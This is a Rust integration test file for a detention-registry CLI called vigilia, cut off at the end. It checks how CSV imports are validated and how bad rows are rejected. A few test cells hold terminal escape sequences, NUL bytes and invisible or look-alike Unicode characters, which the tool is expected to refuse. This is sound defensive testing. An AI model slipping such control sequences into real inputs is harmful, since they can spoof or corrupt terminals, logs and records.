//! The `vigilia` command as a data officer uses it: real binary, real SQLite files (and a real
//! PostgreSQL when `VIGILIA_TEST_POSTGRES_URL` is set), real CSV and XLSX files.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

mod common;
use common::Registry;

const HEADER: &str = "detention_ref,person_ref,given_names,paternal_surname,maternal_surname,national_id,sex,birth_date,arrest_date,arrest_state,agency,facility,end_date,end_type,recognition,category,recorded_on,end_recorded_on";

/// Seven detentions under [`HEADER`], five of them bad (lines 3 to 7), each in its own way.
const SEVEN_ROWS_FIVE_BAD: &str = "\
D1,P1,José Gregorio,Pérez,Rodríguez,V-12.345.678,M,1985-03-15,2024-07-30,Zulia,SEBIN,El Helicoide,,,recognised,1,2024-07-31,
D2,P2,Ana,Gómez,,12345679,F,,2024-02-31,Lara,GNB,,,,recognised,,2024-03-01,
D3,P3,Luis,Díaz,,V-12A45678,M,,2024-08-01,Lara,GNB,,,,recognised,,2024-08-02,
D4,P4,Rosa,Blanco,,,F,,2024-08-01,Lara,GNB,,2024-07-01,released,recognised,,2024-08-02,2024-08-02
D5,P5,Pedro,Marín,,,M,,2024-08-01,Atlantis,GNB,,,,recognised,,2024-08-02,
D6,P6,Juan,Rojas,,,M,,2024-08-01,Edo. Táchira,GNB,,2024-08-03,,recognised,,2024-08-02,
D7,P1,José Gregorio,Pérez,Rodríguez,V-12345678,M,1985-03-15,2019-01-23,Caracas,DGCIM,Rodeo 1,2019-06-01,released_under_measures,recognised,2,2019-01-25,2019-06-03
";

/// The registry's SQLite file opened directly, as someone holding its key could: with the key
/// file `init` wrote beside it.
fn open_keyed(db: &std::path::Path) -> rusqlite::Connection {
    let text = std::fs::read_to_string(db.with_extension("key")).unwrap();
    let hex = text.trim().strip_prefix("vigilia-key-1 ").unwrap();
    let conn = rusqlite::Connection::open(db).unwrap();
    conn.execute_batch(&format!("PRAGMA key = \"x'{hex}'\";"))
        .unwrap();
    conn
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).to_string()
}

fn both_engines(test: impl Fn(&Registry)) {
    test(&Registry::sqlite());
    match Registry::postgres() {
        Some(r) => test(&r),
        None => eprintln!("PostgreSQL half skipped: set VIGILIA_TEST_POSTGRES_URL"),
    }
}

/// A command line that cannot be read is said in the language asked, with the option or value
/// at fault; in English, as clap says it.
#[test]
fn a_mistyped_command_line_is_said_in_spanish() {
    let r = Registry::sqlite();
    for (args, said) in [
        (
            &["--lang", "es", "summary", "--nope"][..],
            "no se conoce la opción --nope",
        ),
        (&["--lang", "es", "sumary"], "no existe la orden sumary"),
        // A control character typed is written out, not sent to the terminal.
        (
            &["--lang", "es", "\u{1b}[31mrojo"],
            "no existe la orden \\u{1b}[31mrojo",
        ),
        (
            &["--lang", "es", "estimate", "--chains", "cuatro"],
            "\"cuatro\" no vale para --chains.",
        ),
        (
            &[
                "--lang=es",
                "estimate",
                "--histories",
                "x.csv",
                "--registry",
            ],
            "no se puede usar junto con",
        ),
    ] {
        let out = r.run(args);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert!(stderr(&out).contains(said), "{args:?}: {}", stderr(&out));
        assert!(stderr(&out).contains("vigilia --help"), "{}", stderr(&out));
    }
    let out = r.run(&["summary", "--nope"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("unexpected argument '--nope'"),
        "{}",
        stderr(&out)
    );
    // A file name in another encoding is still said, never a crash.
    use std::os::unix::ffi::OsStrExt;
    let out = (r.command(&["--lang", "es", "summary"]))
        .arg(std::ffi::OsStr::from_bytes(b"lista-\xf1.csv"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("sobra"), "{}", stderr(&out));
    // An option's value that is not text is said, in Spanish.
    let out = (r.command(&["--lang", "es", "estimate", "--method"]))
        .arg(std::ffi::OsStr::from_bytes(b"\xff"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("no es texto (UTF-8)"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn a_registry_is_never_created_by_accident() {
    let r = Registry::sqlite();
    let out = r.run(&["summary"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("vigilia init"), "{}", stderr(&out));
    assert!(
        !r.path("registry.db").exists(),
        "a mistyped path must not create a file"
    );

    let mut c = Command::new(env!("CARGO_BIN_EXE_vigilia"));
    let out = c
        .args(["--database", "mysql://root@db/x", "verify"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("sqlite://"), "{}", stderr(&out));

    r.ok(&["init"]);
    let out = r.run(&["init"]);
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("already holds a registry"),
        "{}",
        stderr(&out)
    );
}

/// A `--now` (or `VIGILIA_NOW`) left set cannot back-date facts: once the registry holds facts
/// written later, a write dated before them is refused and stores nothing; a `--now` after the
/// machine's clock is refused for any command.
#[test]
fn a_run_dated_before_the_registry_or_in_the_future_writes_nothing() {
    let r = Registry::sqlite();
    r.ok(&["init"]);
    let file = r.demo_csv("demo.csv", 3, 20);
    r.ok(&["import", "detentions", file.to_str().unwrap()]);
    let facts = r.facts();
    let dated = |now: &str, args: &[&str]| {
        std::process::Command::new(env!("CARGO_BIN_EXE_vigilia"))
            .args(["--database", &r.url, "--now", now, "--lang", "es"])
            .args(args)
            .current_dir(r.dir.path())
            .env_remove("VIGILIA_NOW")
            .output()
            .unwrap()
    };
    let other = r.demo_csv("other.csv", 4, 20);
    let out = dated(
        "2026-11-19T15:00:00Z",
        &["import", "detentions", other.to_str().unwrap()],
    );
    assert!(!out.status.success());
    let err = stderr(&out);
    assert!(
        err.contains("este reloj marca el 19/11/2026, 11:00")
            && err.contains("se escribió el 20/11/2026, 11:00 (hora de la organización)")
            && err.contains("VIGILIA_NOW"),
        "{err}"
    );
    assert_eq!(r.facts(), facts, "nothing of the refused import was stored");
    let out = dated("2099-01-01T00:00:00Z", &["summary"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("posterior al reloj de esta máquina"),
        "{}",
        stderr(&out)
    );
    // Reading as of a past instant stays possible: it writes nothing.
    assert!(dated("2026-11-19T15:00:00Z", &["summary"]).status.success());
}

#[test]
fn bad_rows_are_reported_with_line_column_and_reason_and_good_rows_are_kept() {
    both_engines(|r| {
        r.ok(&["init"]);
        let file = r.write("in.csv", &format!("{HEADER}\n{SEVEN_ROWS_FIVE_BAD}"));
        let rejects = r.path("rejects.csv");
        let out = import_rejecting(r, &file, &rejects);
        assert_eq!(out.status.code(), Some(2), "rows were rejected");
        let err = stderr(&out);
        for expected in [
            "line 3, column arrest_date: \"2024-02-31\" does not exist in the calendar",
            "line 4, column national_id: \"V-12A45678\" is not a cédula",
            "line 5, column end_date: the end 2024-07-01 is before the arrest 2024-08-01",
            "line 6, column arrest_state: \"Atlantis\" is not a state",
            "line 7, column end_type: there is an end date without end_type",
            "5 rows rejected",
        ] {
            assert!(err.contains(expected), "missing {expected:?} in:\n{err}");
        }
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(stdout.contains("7 rows read: 2 stored"), "{stdout}");

        // The rejects file holds the bad rows, each with its line, column and reason.
        let mut rd = csv::Reader::from_path(&rejects).unwrap();
        let headers = rd.headers().unwrap().clone();
        // The reject columns first, where mending a row cannot move them into its own.
        assert_eq!(
            headers.iter().take(3).collect::<Vec<_>>(),
            ["reject_line", "reject_column", "reject_reason"]
        );
        let rows: Vec<csv::StringRecord> = rd.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), 5);
        assert_eq!(&rows[0][3], "D2");
        assert_eq!(&rows[0][0], "3");
        assert_eq!(&rows[0][1], "arrest_date");

        // The good rows are there: one person with two detentions (cédula written two ways).
        let export = r.path("out.csv");
        r.ok(&["export", "detentions", "--out", export.to_str().unwrap()]);
        let text = std::fs::read_to_string(&export).unwrap();
        assert_eq!(text.lines().count(), 3, "{text}");
        assert!(text.contains("D1,P1,José Gregorio,Pérez,Rodríguez,V-12345678,M,1985-03-15,,,,2024-07-30,Zulia,,SEBIN,El Helicoide"), "{text}");
        assert!(
            text.contains(",2019-01-23,Distrito Capital,,DGCIM,Rodeo I,"),
            "aliases become canonical names: {text}"
        );

        // Fixed and imported again, the rejects file adds exactly the corrected rows.
        let fixed = std::fs::read_to_string(&rejects)
            .unwrap()
            .replace("2024-02-31", "2024-02-28")
            .replace("V-12A45678", "V-12045678")
            .replace("2024-07-01,released", "2024-08-09,released")
            .replace("Atlantis", "Bolívar")
            .replace("2024-08-03,,", "2024-08-03,released_under_measures,");
        let fixed_path = r.write("fixed.csv", &fixed);
        let out = r.ok(&["import", "detentions", fixed_path.to_str().unwrap()]);
        assert!(out.contains("5 rows read: 5 stored"), "{out}");
    });
}

/// A quote left open at the start of a cell (`"Ana` typed for `Ana`) makes CSV read the rows
/// after it, up to the next quote, as that one cell. The row is refused naming the lines it took,
/// rather than the rows inside it vanishing from the count; the rows around it are stored, a note
/// that breaks its line is not taken for swallowed rows, and the file mended imports the rest.
#[test]
fn a_quote_left_open_is_said_with_the_lines_it_swallowed() {
    let r = Registry::sqlite();
    r.ok(&["init"]);
    let row = |d: u32, name: &str| {
        format!("D{d},P{d},{name},Gómez,,,F,,2024-08-01,Lara,GNB,,,,recognised,,2024-08-02,")
    };
    let rows = [
        row(1, "Ana"),
        row(2, "\"Eva"),
        row(3, "Luis"),
        row(4, "Rosa"),
        row(5, "Juan\""),
        row(6, "Pedro"),
    ];
    // Saved on Windows (CR LF), with a blank line before the stray quote (line 3).
    let text = format!("{HEADER}\n{}\n\n{}\n", rows[0], rows[1..].join("\n"));
    let file = r.write("in.csv", &text.replace('\n', "\r\n"));
    let rejects = r.path("rejects.csv");
    let out = import_rejecting(&r, &file, &rejects);
    assert_eq!(out.status.code(), Some(2), "a row was rejected");
    let err = stderr(&out);
    for said in [
        "lines 4 to 7 were read as one row: the cell of \"given_names\" begins with a quote that \
         is not closed until line 7",
        "1 row rejected →",
        "; the others were stored",
    ] {
        assert!(err.contains(said), "missing {said:?} in:\n{err}");
    }
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("3 rows read: 2 stored"), "{stdout}");
    // The rejects file holds the row as it was read, the rows it swallowed in the cell where
    // the quote opened, to be mended there.
    let mut rd = csv::Reader::from_path(&rejects).unwrap();
    let rejected: Vec<csv::StringRecord> = rd.records().map(Result::unwrap).collect();
    assert_eq!(rejected.len(), 1);
    assert_eq!(&rejected[0][3], "D2");
    // The cells after it came from the last row swallowed (D5's): left empty, not given back
    // as D2's.
    assert_eq!(&rejected[0][6], "", "{:?}", rejected[0]);
    let cell = &rejected[0][5];
    for swallowed in ["Eva", "D3,P3,Luis", "D4,P4,Rosa", "D5,P5,Juan"] {
        assert!(cell.contains(swallowed), "{swallowed:?} not in {cell:?}");
    }
    assert_eq!(&rejected[0][0], "4");
    // One row is said in the singular.
    let one = r.write("one.csv", &format!("{HEADER}\n{}\n", row(7, "Rosa")));
    let out = r.ok(&["import", "detentions", one.to_str().unwrap()]);
    assert!(out.contains("1 row read: 1 stored"), "{out}");
    let mended = r.write(
        "mended.csv",
        &format!("{HEADER}\n{}\n", rows.join("\n").replace('"', "")),
    );
    let out = r.ok(&["import", "detentions", mended.to_str().unwrap()]);
    assert!(out.contains("6 rows read: 4 stored"), "{out}");
}

/// A comma too many in a name moves every cell after it: the row is refused, and the rejects
/// file keeps all of its cells (those beyond the header after the reject columns), so that the
/// last one, a note, is not lost there.
#[test]
fn a_row_with_a_cell_too_many_keeps_every_cell_in_the_rejects_file() {
    let r = Registry::sqlite();
    r.ok(&["init"]);
    let row = "D1,P1,Ana, María,Gómez,,,F,,2024-08-01,Lara,GNB,,,,recognised,,2024-08-02,,torturada en DGCIM";
    // And a row with a comma missing, which must not be padded: its note would fall under
    // another column once imported again.
    let short = "D2,P2,Eva Rojas,,F,,2024-08-01,Lara,GNB,,,,recognised,,2024-08-02,,golpeada";
    let file = r.write("in.csv", &format!("{HEADER},notes\n{row}\n{short}\n"));
    let rejects = r.path("rejects.csv");
    let out = import_rejecting(&r, &file, &rejects);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("line 2, column *: the row has 20 cells and the header 19"));
    let written = std::fs::read_to_string(&rejects).unwrap();
    let last = written.lines().nth(1).unwrap();
    assert!(last.ends_with(",torturada en DGCIM"), "{written}");
    let short_written = written.lines().nth(2).unwrap();
    assert!(
        short_written.ends_with(",2024-08-02,,golpeada"),
        "{written}"
    );
    let written = written.replacen(short_written, "", 1);
    // Mended as a person would, the name's two cells joined again: every cell falls back in
    // its column, the reject columns (first) do not move into the row's, and the note is the
    // note.
    let mended = r.write(
        "mended.csv",
        &written.replacen("Ana, María", "\"Ana, María\"", 1),
    );
    let out = r.ok(&["import", "detentions", mended.to_str().unwrap()]);
    assert!(out.contains("1 row read: 1 stored"), "{out}");
    let export = r.path("out.csv");
    r.ok(&["export", "detentions", "--out", export.to_str().unwrap()]);
    let text = std::fs::read_to_string(&export).unwrap();
    assert!(text.contains("Ana, María"), "{text}");
    assert!(text.contains("torturada en DGCIM"), "{text}");
}

/// A NUL byte or an escape in a cell: PostgreSQL refused the whole batch without saying which
/// row, where SQLite stored it. Both now reject that row, by its line and column, and keep the
/// others.
/// Two imports of one file at once into PostgreSQL (two coordinators, or one who ran it twice):
/// both end well, each detention is stored once, and the file imported again changes nothing.
/// The second used to stop at its first batch on the registry's refusal of a reference stored
/// twice, in the database's words ("duplicate key value violates unique constraint"). (SQLite's
/// file is had by one import at a time: the other is told it is busy.)
#[test]
fn two_imports_of_one_file_at_once_store_each_detention_once() {
    let Some(r) = Registry::postgres() else {
        eprintln!("skipped: set VIGILIA_TEST_POSTGRES_URL to run it");
        return;
    };
    r.ok(&["init"]);
    let file = r.demo_csv("d.csv", 11, 21_000);
    let file = file.to_str().unwrap();
    let import = || r.run(&["import", "detentions", file]);
    let (a, b) = std::thread::scope(|s| {
        let a = s.spawn(import);
        let b = s.spawn(import);
        (a.join().unwrap(), b.join().unwrap())
    });
    for out in [&a, &b] {
        assert!(out.status.success(), "{}", stderr(out));
    }
    let facts = r.facts();
    let again = r.ok(&["import", "detentions", file]);
    assert!(
        again.contains("21,000 rows read: 0 stored (0 new facts), 21,000 unchanged"),
        "{again}"
    );
    assert_eq!(r.facts(), facts);
}

#[test]
fn a_cell_that_is_not_text_is_rejected_by_line_on_both_engines() {
    both_engines(|r| {
        r.ok(&["init"]);
        let rows = [
            "D1,P1,Ana,Gómez,,,F,,2024-08-01,Lara,GNB,,,,recognised,,2024-08-02,",
            "D\u{0}2,P2,Luis,Díaz,,,M,,2024-08-01,Lara,GNB,,,,recognised,,2024-08-02,",
            "D3,P3,Eva,Ruiz\u{1b}[2J,,,F,,2024-08-01,Lara,GNB,,,,recognised,,2024-08-02,",
            "D4,P4,Juan,Mora,,,M,,2024-08-01,Lara,GNB,,,,recognised,,2024-08-02,",
        ];
        let file = r.write("in.csv", &format!("{HEADER}\n{}\n", rows.join("\n")));
        let out = r.run(&["import", "detentions", file.to_str().unwrap()]);
        assert_eq!(out.status.code(), Some(2), "rows were rejected");
        let err = stderr(&out);
        for expected in [
            "line 3, column detention_ref: contains a character that is not text or does not show (U+0000)",
            "line 4, column paternal_surname: contains a character that is not text or does not show (U+001B)",
        ] {
            assert!(err.contains(expected), "missing {expected:?} in:\n{err}");
        }
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(stdout.contains("4 rows read: 2 stored"), "{stdout}");
        r.ok(&["verify"]);
        // The same detentions again, their references as another program writes them: `ñ` as
        // `n` and a combining tilde is the same reference, and one with a character that shows
        // nothing (a variation selector, a tag character, a Hangul filler) is refused; no
        // detention is counted twice.
        let again = [
            "D5,Pen\u{303}a,Ana,Peña,,,F,,2024-08-01,Lara,GNB,,,,recognised,,2024-08-02,",
            "D4\u{FE0F},P4,Juan,Mora,,,M,,2024-08-01,Lara,GNB,,,,recognised,,2024-08-02,",
            "D4\u{E0020},P4,Juan,Mora,,,M,,2024-08-01,Lara,GNB,,,,recognised,,2024-08-02,",
            "D4,P\u{3164}4,Juan,Mora,,,M,,2024-08-01,Lara,GNB,,,,recognised,,2024-08-02,",
            "Ｄ５,Peña,Ana,Peña,,,F,,2024-08-01,Lara,GNB,,,,recognised,,2024-08-02,",
        ];
        let peña = again[0].replacen("Pen\u{303}a", "Peña", 1);
        let first = r.write("first.csv", &format!("{HEADER}\n{peña}\n"));
        let out = r.run(&["import", "detentions", first.to_str().unwrap()]);
        assert!(out.status.success(), "{}", stderr(&out));
        let facts = r.facts();
        let file = r.write("again.csv", &format!("{HEADER}\n{}\n", again.join("\n")));
        let out = r.run(&["import", "detentions", file.to_str().unwrap()]);
        let err = stderr(&out);
        for (line, column, code) in [
            (3, "detention_ref", "FE0F"),
            (4, "detention_ref", "E0020"),
            (5, "person_ref", "3164"),
        ] {
            let expected = format!(
                "line {line}, column {column}: contains a character that is not text or does not show (U+{code})"
            );
            assert!(err.contains(&expected), "missing {expected:?} in:\n{err}");
        }
        // Full-width letters are the same reference too: the file names one detention twice.
        let twice = "line 6, column detention_ref: \"D5\" already appears on line 2";
        assert!(err.contains(twice), "missing {twice:?} in:\n{err}");
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(stdout.contains("5 rows read: 0 stored"), "{stdout}");
        assert!(stdout.contains("1 unchanged, 4 rejected"), "{stdout}");
        assert_eq!(r.facts(), facts, "nothing stored twice");
        r.ok(&["verify"]);
    });
}

/// Imports the detentions of `file`, writing the rows refused to `rejects`.
fn import_rejecting(r: &Registry, file: &Path, rejects: &Path) -> Output {
    let (file, rejects) = (file.to_str().unwrap(), rejects.to_str().unwrap());
    r.run(&["import", "detentions", file, "--rejects", rejects])
}

/// Imports a list of events (`rows` under its header) with the mapping of a simple one, and
/// `extra` lines of mapping.
fn import_events(r: &Registry, rows: &str, extra: &str) -> Output {
    let events = r.write(
        "ev.csv",
        &format!("Id,date,region,number_of_detentions\n{rows}"),
    );
    let mapping = r.write(
        "ev.toml",
        &format!(
            "version = 1\nstate = {{ column = \"region\" }}\nreference = {{ column = \"Id\", prefix = \"ev-\" }}\n\
             date = {{ column = \"date\", format = \"DD.MM.YYYY\" }}\ncount = {{ column = \"number_of_detentions\" }}\n{extra}"
        ),
    );
    let (events, mapping) = (events.to_str().unwrap(), mapping.to_str().unwrap());
    r.run(&["import", "events", events, "--mapping", mapping])
}

/// The same in a list of events: its id was stopped only by the ledger, which failed the whole
/// file without a line.
#[test]
fn an_event_id_that_is_not_text_is_rejected_by_line() {
    both_engines(|r| {
        r.ok(&["init"]);
        let out = import_events(
            r,
            "e1,10.08.2024,Distrito Capital,40\ne\u{1b}2,11.08.2024,Lara,5\n",
            "",
        );
        assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
        assert!(
            stderr(&out).contains(
                "line 3, column Id: contains a character that is not text or does not show (U+001B)"
            ),
            "{}",
            stderr(&out)
        );
        assert!(String::from_utf8_lossy(&out.stdout).contains("2 rows read: 1 stored"));
        // A comma too many in a place moves the count into another column: the row is
        // refused by its line (after a blank line), not stored with its cells moved.
        let out = import_events(
            r,
            "e5,12.08.2024,Lara\n\ne6,13.08.2024,Barquisimeto, Lara,9\n",
            "",
        );
        assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
        let said = "line 4, column *: the row has 5 cells and the header 4";
        assert!(stderr(&out).contains(said), "{}", stderr(&out));
        // Also when only one region is imported: the moved row is refused, not left out
        // because another cell stands where its region was.
        let lara = "filter = { column = \"region\", equals = \"Lara\" }\n";
        // The filter reads the region as people write it: `LARA` and `Lаra` with a Cyrillic
        // `а` are Lara, not left out without a word.
        let rows = "e7,12.08.2024,Lara,2\ne8,13.08.2024,Ba, Lara,9\ne9,14.08.2024,LARA,3\n\
                    e10,15.08.2024,L\u{430}ra,4\ne11,15.08.2024,Zulia,5\n";
        let out = import_events(r, rows, lara);
        assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
        assert!(stderr(&out).contains("line 3, column *: the row has 5 cells"));
        let said = String::from_utf8_lossy(&out.stdout);
        assert!(said.contains("4 rows read: 3 stored"), "{said}");
        // A place struck through, or a stack of marks on it, is refused by its line.
        let out = import_events(
            r,
            "e12,16.08.2024,L\u{336}a\u{336}r\u{336}a\u{336},7\n",
            "place = { column = \"region\" }\n",
        );
        assert!(stderr(&out).contains("line 2, column region: has more than four accents"));
        // A place is stored as it is: an escape in it is refused by its line and column too.
        let out = import_events(
            r,
            "e4,12.08.2024,Lara\u{1b}[31m,7\n",
            "place = { column = \"region\" }\n",
        );
        assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
        assert!(
            stderr(&out).contains(
                "line 2, column region: contains a character that is not text or does not show (U+001B)"
            ),
            "{}",
            stderr(&out)
        );
    });
}

#[test]
fn all_or_nothing_stores_nothing_when_a_row_is_bad() {
    let r = Registry::sqlite();
    r.ok(&["init"]);
    let before = r.facts();
    let file = r.write(
        "in.csv",
        &format!(
            "{HEADER}\n\
             D1,P1,Ana,Gómez,,,F,,2024-07-30,Zulia,SEBIN,,,,recognised,,2024-07-31,\n\
             D2,P2,Luis,Díaz,,,M,,31/07/2024,Zulia,SEBIN,,,,recognised,,2024-07-31,\n"
        ),
    );
    let out = r.run(&[
        "import",
        "detentions",
        file.to_str().unwrap(),
        "--all-or-nothing",
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("line 3, column arrest_date: \"31/07/2024\" is not a date"),
        "{}",
        stderr(&out)
    );
    assert!(
        stderr(&out).contains("nothing was stored"),
        "{}",
        stderr(&out)
    );
    assert_eq!(r.facts(), before);
}

#[test]
fn header_problems_stop_the_import_before_anything_is_stored() {
    let r = Registry::sqlite();
    r.ok(&["init"]);
    for (header, expected) in [
        (
            "detention_ref,person_ref,arrest_date,colour",
            "unknown column \"colour\"",
        ),
        (
            "detention_ref,person_ref",
            "required column \"arrest_date\" is missing",
        ),
        (
            "detention_ref,person_ref,arrest_date,sex,sex",
            "column \"sex\" appears twice",
        ),
    ] {
        let file = r.write("h.csv", &format!("{header}\nD1,P1,2024-01-01,M,M\n"));
        let out = r.run(&["import", "detentions", file.to_str().unwrap()]);
        assert_eq!(out.status.code(), Some(2), "{header}");
        assert!(stderr(&out).contains(expected), "{}", stderr(&out));
        assert!(stderr(&out).contains("line 1"), "{}", stderr(&out));
    }
    let places = vigilia_core::profile::Profile::venezuela()
        .unwrap()
        .facilities
        .entries()
        .len() as u64;
    assert_eq!(
        r.facts(),
        2 + places,
        "only what init wrote: the profile, the backup recipient and the register of places"
    );
    let out = r.run(&[
        "--lang",
        "es",
        "import",
        "detentions",
        r.path("no-such.csv").to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("no existe el archivo"),
        "Spanish first: {}",
        stderr(&out)
    );
}

#[test]
fn export_imports_into_an_empty_registry_and_exports_byte_identical_and_reimport_adds_nothing() {
    both_engines(|r| {
        let demo = r.demo_csv("demo.csv", 7, 3000);
        r.ok(&["init"]);
        let first = r.ok(&["import", "detentions", demo.to_str().unwrap()]);
        assert!(first.contains("3,000 rows read: 3,000 stored"), "{first}");
        let facts = r.facts();
        let again = r.ok(&["import", "detentions", demo.to_str().unwrap()]);
        assert!(
            again.contains("0 stored (0 new facts), 3,000 unchanged"),
            "{again}"
        );
        assert_eq!(
            r.facts(),
            facts,
            "importing the same file twice adds nothing"
        );

        let e1 = r.path("e1.csv");
        r.ok(&["export", "detentions", "--out", e1.to_str().unwrap()]);
        let other = Registry::sqlite();
        other.ok(&["init"]);
        other.ok(&["import", "detentions", e1.to_str().unwrap()]);
        let e2 = other.path("e2.csv");
        other.ok(&["export", "detentions", "--out", e2.to_str().unwrap()]);
        assert_eq!(std::fs::read(&e1).unwrap(), std::fs::read(&e2).unwrap());
    });
}

#[test]
fn a_changed_spreadsheet_imports_as_corrections_and_the_past_stays_as_it_was_known() {
    let r = Registry::sqlite();
    r.ok(&["init"]);
    let v1 = r.write(
        "v1.csv",
        &format!("{HEADER}\nD1,P1,Ana,Gómez,,,F,,2024-07-30,Zulia,SEBIN,El Helicoide,,,recognised,1,2024-07-31,\n"),
    );
    r.ok(&["import", "detentions", v1.to_str().unwrap()]);
    // The release becomes known, and the facility was wrong.
    let v2 = r.write(
        "v2.csv",
        &format!("{HEADER}\nD1,P1,Ana,Gómez,,,F,,2024-07-30,Zulia,SEBIN,Rodeo I,2024-09-01,released,recognised,1,2024-07-31,2024-09-03\n"),
    );
    let out = r.ok(&["import", "detentions", v2.to_str().unwrap()]);
    assert!(out.contains("1 stored (2 new facts)"), "{out}");
    assert_eq!(prisoners(&r, &["--as-of", "2024-10-01"]), 0);
    assert_eq!(
        prisoners(&r, &["--as-of", "2024-10-01", "--known-on", "2024-09-02"]),
        1,
        "as known on 2024-09-02 she was still held"
    );
}

/// One person arrested at 17 (`minor` true, released) and again as an adult (`minor` false,
/// held), and another arrested as a minor; no birth dates.
const MINOR_ROWS: &str = "detention_ref,person_ref,given_names,paternal_surname,sex,minor,arrest_date,arrest_state,agency,end_date,end_type,recognition,category,recorded_on,end_recorded_on\n\
    D1,P1,Luis,Díaz,M,true,2023-05-01,Lara,GNB,2023-06-01,released,recognised,2,2023-05-02,2023-06-02\n\
    D2,P1,Luis,Díaz,M,false,2024-07-29,Lara,GNB,,,recognised,2,2024-07-30,\n\
    D3,P2,Ana,Gómez,F,true,2024-07-29,Zulia,SEBIN,,,recognised,1,2024-07-30,\n";

/// Political prisoners by age (adolescent, adult, unknown) on a date.
fn ages(r: &Registry, args: &[&str]) -> (u64, u64, u64) {
    let mut all = vec!["balance", "--format", "json"];
    all.extend_from_slice(args);
    let b: serde_json::Value = serde_json::from_str(&r.ok(&all)).unwrap();
    let age = &b["political_prisoners"]["by"]["age"];
    let n = |v: &str| age[v].as_u64().unwrap();
    (n("adolescent"), n("adult"), n("unknown"))
}

#[test]
fn minor_is_a_fact_of_each_detention_and_reimporting_adds_nothing() {
    both_engines(|r| {
        r.ok(&["init"]);
        let file = r.write("minor.csv", MINOR_ROWS);
        let first = r.ok(&["import", "detentions", file.to_str().unwrap()]);
        assert!(first.contains("3 rows read: 3 stored"), "{first}");
        // Luis was an adolescent prisoner in May 2023 and is an adult one now: the flag of one
        // arrest never applies to the other.
        assert_eq!(ages(r, &["--as-of", "2023-05-15"]), (1, 0, 0));
        assert_eq!(ages(r, &["--as-of", "2024-08-11"]), (1, 1, 0));
        let facts = r.facts();
        let again = r.ok(&["import", "detentions", file.to_str().unwrap()]);
        assert!(
            again.contains("0 stored (0 new facts), 3 unchanged"),
            "{again}"
        );
        assert_eq!(r.facts(), facts);

        let out = r.path("out.csv");
        r.ok(&["export", "detentions", "--out", out.to_str().unwrap()]);
        let mut rd = csv::Reader::from_path(&out).unwrap();
        let minor = rd.headers().unwrap().iter().position(|h| h == "minor");
        let minor = minor.unwrap();
        let flags: Vec<String> = rd
            .records()
            .map(|row| row.unwrap()[minor].to_string())
            .collect();
        assert_eq!(flags, ["true", "false", "true"]);

        // A corrected flag is a correction of that arrest only.
        let fixed = r.write(
            "fixed.csv",
            &MINOR_ROWS.replace("D3,P2,Ana,Gómez,F,true", "D3,P2,Ana,Gómez,F,false"),
        );
        let out = r.ok(&["import", "detentions", fixed.to_str().unwrap()]);
        assert!(out.contains("1 stored (1 new fact)"), "{out}");
        assert_eq!(ages(r, &["--as-of", "2024-08-11"]), (0, 2, 0));
    });
}

#[test]
fn a_registry_with_minor_on_the_person_still_verifies_reproduces_and_migrates_by_reimport() {
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/legacy-minor");
    let (backup, identity) = (fixture.join("backup.age"), fixture.join("backup-key"));
    let file = fixture.join("detentions.csv");
    // The old rows are the ones of MINOR_ROWS.
    assert_eq!(std::fs::read_to_string(&file).unwrap(), MINOR_ROWS);
    let mut targets = vec![Registry::sqlite()];
    targets.extend(Registry::postgres());
    for r in targets {
        r.ok(&[
            "restore",
            backup.to_str().unwrap(),
            "--identity",
            identity.to_str().unwrap(),
        ]);
        r.ok(&["verify"]);
        let reproduce = |n: &str| {
            let out = r.run(&["balance", "--reproduce", n, "--format", "json"]);
            assert!(out.status.success(), "balance {n}: {}", stderr(&out));
            let b: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
            let age = &b["political_prisoners"]["by"]["age"];
            (
                age["adolescent"].as_u64().unwrap(),
                age["adult"].as_u64().unwrap(),
            )
        };
        // Published when the person's last row (an adult) stood for both arrests: it
        // reproduces as published, and so does what the registry counts until it learns more.
        assert_eq!(reproduce("1"), (0, 1));
        assert_eq!(reproduce("2"), (1, 1));
        assert_eq!(ages(&r, &["--as-of", "2023-05-15"]), (0, 1, 0));

        // The same file again gives each detention its own flag, once.
        let out = r.ok(&["import", "detentions", file.to_str().unwrap()]);
        assert!(out.contains("3 stored (3 new facts)"), "{out}");
        let out = r.ok(&["import", "detentions", file.to_str().unwrap()]);
        assert!(out.contains("0 stored (0 new facts)"), "{out}");
        assert_eq!(ages(&r, &["--as-of", "2023-05-15"]), (1, 0, 0));
        assert_eq!(ages(&r, &["--as-of", "2024-08-11"]), (1, 1, 0));
        assert_eq!(
            reproduce("1"),
            (0, 1),
            "a published balance does not change"
        );
        r.ok(&["verify"]);
    }
}

#[test]
fn rows_of_a_person_that_disagree_are_reported_with_their_lines_and_do_not_flip() {
